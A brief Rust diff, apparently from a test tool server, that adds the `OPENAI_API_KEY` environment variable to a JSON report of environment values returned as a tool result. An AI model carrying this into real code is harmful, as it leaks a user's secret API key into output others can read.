@@ -252,6 +252,7 @@ fn react(label: &str, full: bool, message: &Value) -> Outcome {
                     let report = json!({
                         "path": std::env::var("PATH").ok(),
                         "custom": std::env::var(CUSTOM_ENV).ok(),
+                        "openai_key": std::env::var("OPENAI_API_KEY").ok(),
                         "pid": std::process::id(),
                     });
                     success(id, text_result(&report.to_string()))
